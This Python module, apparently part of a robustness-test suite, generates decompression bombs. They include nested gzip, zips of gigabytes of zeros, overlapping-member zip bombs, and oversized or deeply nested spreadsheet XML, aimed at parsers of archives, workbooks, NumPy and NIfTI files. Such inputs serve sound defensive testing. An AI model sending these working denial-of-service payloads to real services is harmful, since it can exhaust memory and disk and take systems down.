"""Archives: gzip, zip, workbooks, sets of regions, NumPy and NIfTI that unpack to gigabytes."""

from __future__ import annotations

import gzip
import importlib
import io
import struct
import zipfile
import zlib

from attack.inputs import SPACING, Input
from attack.inputs.pixels import nifti, npy_header


def zeros_in_zip(name: str, n_bytes: int = 11 << 27, times: int = 1) -> bytes:
    out, part = io.BytesIO(), bytes(1 << 20)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for k in range(times):
            with archive.open(name.format(k), "w", force_zip64=True) as file:
                for _ in range(n_bytes // times >> 20):
                    file.write(part)
    return out.getvalue()


def many_members(name: str, n: int = 65_000) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for k in range(n):
            archive.writestr(name.format(k), b"")
    return out.getvalue()


def overlapping(name: str, n: int = 2_000, size: int = 1 << 20) -> bytes:
    """Return an archive whose members all are the same bytes (Fifield, "A better zip bomb", 2019)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    plain = bytes(size)
    packed = packer.compress(plain) + packer.flush()
    crc = zlib.crc32(plain)

    def head(signature: bytes, first: bool, path: bytes) -> bytes:
        fields = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, crc, len(packed), size, len(path), 0)
        return (
            signature
            + (b"" if first else struct.pack("<H", 20))
            + fields
            + (path if first else b"")
        )

    names = [name.format(k).encode() for k in range(n)]
    longest = max(names, key=len)
    local = head(b"PK\3\4", True, longest) + packed
    central = b"".join(
        head(b"PK\1\2", False, path) + struct.pack("<HHHII", 0, 0, 0, 0, 0) + path for path in names
    )
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, n, n, len(central), len(local), 0)
    return local + central + end


def workbook(sheet: str, strings: str = "") -> bytes:
    """Return a workbook of one sheet, as XML, compressed."""
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{package}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="r1" Type="{relation}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook {main} xmlns:r="{relation}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="r1" Type="{relation}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="r2" Type="{relation}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        "xl/sharedStrings.xml": f"<sst {main}>{strings}</sst>",
        "xl/worksheets/sheet1.xml": f"<worksheet {main}>{sheet}</worksheet>",
    }  # fmt: skip
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return out.getvalue()


def far_cell() -> bytes:
    heading = "".join(f'<c r="{c}1" t="inlineStr"><is><t>{name}</t></is></c>'
                      for c, name in zip("ABC", ("cluster_id", "x_mm", "y_mm"), strict=True))  # fmt: skip
    return workbook(f'<sheetData><row r="1">{heading}</row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')  # fmt: skip


def long_shared_string() -> bytes:
    cells = "".join(f'<row r="{k + 1}"><c t="s"><v>0</v></c><c><v>1</v></c><c><v>1</v></c></row>' for k in range(50_000))  # fmt: skip
    return workbook(f"<sheetData>{cells}</sheetData>", f"<si><t>{'w' * 20_000_000}</t></si>")


def shared_string(n: int = 50_000) -> bytes:
    """Return a workbook in which each cell holds the same text of 32,000 characters: 1.6 GB as CSV."""
    cells = '<row><c t="s"><v>0</v></c><c><v>1</v></c><c><v>1</v></c></row>' * n
    return workbook(f"<sheetData>{cells}</sheetData>", f"<si><t>{'w' * 32_000}</t></si>")


def many_cells(n: int = 3_000_000) -> bytes:
    return workbook("<sheetData>" + "<row><c><v>1</v></c><c><v>1</v></c><c><v>1</v></c></row>" * (n // 3) + "</sheetData>")  # fmt: skip


def deep_workbook(depth: int = 100_000) -> bytes:
    return workbook("<sheetData>" + "<row>" * depth + "</row>" * depth + "</sheetData>")


ARCHIVES = [
    Input("gzip in gzip", lambda: gzip.compress(packed_by("gzip", 11 << 27))),
    Input("a gigabyte in gzip", lambda: gzip.compress(b"cluster_id,x_mm,y_mm\n") + gzip.compress(b"a,1,2\n" * 10_000_000) * 20),
    Input("ten thousand gzip members", lambda: gzip.compress(bytes(1 << 18)) * 10_000),
    Input("npz in npz", lambda: zipped("labels.npy", zeros_in_zip("mask.npy"))),
    Input("1.4 GB in an npz", lambda: npz_of_zeros((30_000, 50_000)), SPACING),
    Input("1.4 GB in a region", lambda: zeros_in_zip("1.roi")),
    Input("1.4 GB in 1,000 regions", lambda: zeros_in_zip("{}.roi", times=1_000)),
    Input("65,000 regions", lambda: many_members("{}.roi"), SPACING),
    Input("65,000 arrays", lambda: many_members("{}.npy"), SPACING),
    Input("2,000 regions that are the same bytes", lambda: overlapping("{:04}.roi"), SPACING),
    Input("1.4 GB in a workbook", lambda: zeros_in_zip("xl/workbook.xml")),
    Input("a cell in the last row and column", far_cell),
    Input("one text of 20 MB in 50,000 cells", long_shared_string),
    Input("one text of 32,000 characters in 50,000 cells", shared_string),
    Input("3,000,000 cells", many_cells),
    Input("a sheet 100,000 deep", deep_workbook),
    Input("a workbook that is the same bytes", lambda: overlapping("xl/worksheets/sheet{:04}.xml")),
    Input("NIfTI of 20,000 x 20,000 in gzip", lambda: gzip.compress(nifti((20_000, 20_000)) + bytes(400_000_000))),
    Input("NIfTI of 4,000 x 5,000 in gzip", lambda: gzip.compress(nifti((4_000, 5_000)) + bytes(20_000_000))),
    Input("zstd of a window of 2 GB", lambda: b"\x28\xb5\x2f\xfd\x00\xa8" + bytes(100)),
    Input("a gigabyte in bzip2", lambda: packed_by("bz2", 1 << 30)),
    Input("a gigabyte in xz", lambda: packed_by("lzma", 1 << 30)),
]  # fmt: skip


def packed_by(module: str, n_bytes: int) -> bytes:
    return importlib.import_module(module).compress(bytes(n_bytes // 16)) * 16  # members in a row


def zipped(name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return out.getvalue()


def npz_of_zeros(shape: tuple[int, ...]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("mask.npy", "w", force_zip64=True) as file:  # fmt: skip
        file.write(npy_header(shape))
        for _ in range(shape[0] * shape[1] >> 20):
            file.write(bytes(1 << 20))
    return out.getvalue()
